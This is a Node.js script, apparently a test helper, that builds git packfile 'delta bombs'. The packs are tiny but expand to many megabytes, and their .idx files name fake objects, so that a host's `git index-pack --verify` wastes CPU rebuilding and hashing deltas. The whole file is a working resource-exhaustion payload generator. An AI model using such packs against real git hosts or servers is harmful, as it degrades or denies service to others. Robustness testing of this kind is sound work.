// Run inside a sandbox by a test: writes <packs> pack pairs into <dir>, each a few kilobytes holding
// one 1 MiB blob of zeros and <deltas> deltas that each rebuild it <mib> times over (64 MiB of zeros
// from a few bytes of copy instructions), with an .idx that names made-up objects. The host's
// `git index-pack --verify` must rebuild and hash every delta's result before it can refuse the
// pair: seconds of CPU per pack, for what costs the sandbox nothing.
// node delta-bomb-packs.mjs <dir> <packs> <deltas> <mib>
import crypto from "node:crypto";
import fs from "node:fs";
import path from "node:path";
import zlib from "node:zlib";

const [dir, packs, deltas, mib] = [
  process.argv[2],
  Number(process.argv[3]),
  Number(process.argv[4]),
  Number(process.argv[5]),
];
const BASE = 1 << 20;
const sha1 = (bytes) => crypto.createHash("sha1").update(bytes).digest();
/** A pack entry's header: type, then the size 4 bits and then 7 bits a byte. */
function entryHeader(type, size) {
  const out = [];
  let byte = (type << 4) | (size & 15);
  for (size = Math.floor(size / 16); size > 0; size = Math.floor(size / 128)) {
    out.push(byte | 0x80);
    byte = size & 0x7f;
  }
  out.push(byte);
  return Buffer.from(out);
}
/** A delta's size varint (7 bits a byte, lowest first). */
function sizeVarint(n) {
  const out = [];
  for (;;) {
    const low = n & 0x7f;
    n = Math.floor(n / 128);
    if (n === 0) return Buffer.from([...out, low]);
    out.push(low | 0x80);
  }
}
/** An OFS_DELTA's base distance (big-endian, each continued byte one more). */
function offsetVarint(n) {
  const out = [n & 0x7f];
  for (n = Math.floor(n / 128); n > 0; n = Math.floor(n / 128)) {
    n -= 1;
    out.push(0x80 | (n & 0x7f));
  }
  return Buffer.from(out.reverse());
}

fs.mkdirSync(dir, { recursive: true });
const base = Buffer.concat([entryHeader(3, BASE), zlib.deflateSync(Buffer.alloc(BASE), { level: 9 })]);
for (let p = 0; p < packs; p++) {
  const count = Buffer.alloc(4);
  count.writeUInt32BE(1 + deltas);
  const parts = [Buffer.from("PACK"), Buffer.from([0, 0, 0, 2]), count, base];
  let length = 12 + base.length;
  for (let i = 0; i < deltas; i++) {
    const tag = Buffer.from(`${process.pid}:${p}:${i}`);
    // Copy the whole base (offset 0, size 0x10000 * 16 = 1 MiB) `mib` times, then insert the tag.
    const delta = Buffer.concat([
      sizeVarint(BASE),
      sizeVarint(mib * BASE + tag.length),
      Buffer.from("c010".repeat(mib), "hex"),
      Buffer.from([tag.length]),
      tag,
    ]);
    const entry = Buffer.concat([entryHeader(6, delta.length), offsetVarint(length - 12), zlib.deflateSync(delta)]);
    parts.push(entry);
    length += entry.length;
  }
  const body = Buffer.concat(parts);
  const pack = Buffer.concat([body, sha1(body)]);
  const n = deltas + 1;
  const names = Array.from({ length: n }, (_, i) => sha1(Buffer.concat([Buffer.from(`fake${i}`), pack.subarray(-20)])));
  names.sort(Buffer.compare);
  const fanout = Buffer.alloc(1024);
  for (let b = 0, seen = 0; b < 256; b++) {
    seen += names.filter((name) => name[0] === b).length;
    fanout.writeUInt32BE(seen, b * 4);
  }
  const offsets = Buffer.alloc(4 * n);
  for (let i = 0; i < n; i++) offsets.writeUInt32BE(12, i * 4);
  const idxBody = Buffer.concat([
    Buffer.from("ff744f6300000002", "hex"),
    fanout,
    ...names,
    Buffer.alloc(4 * n),
    offsets,
    pack.subarray(-20),
  ]);
  const name = sha1(pack).toString("hex");
  fs.writeFileSync(path.join(dir, `pack-${name}.pack`), pack);
  fs.writeFileSync(path.join(dir, `pack-${name}.idx`), Buffer.concat([idxBody, sha1(idxBody)]));
}
console.log(`wrote ${packs} pack(s)`);
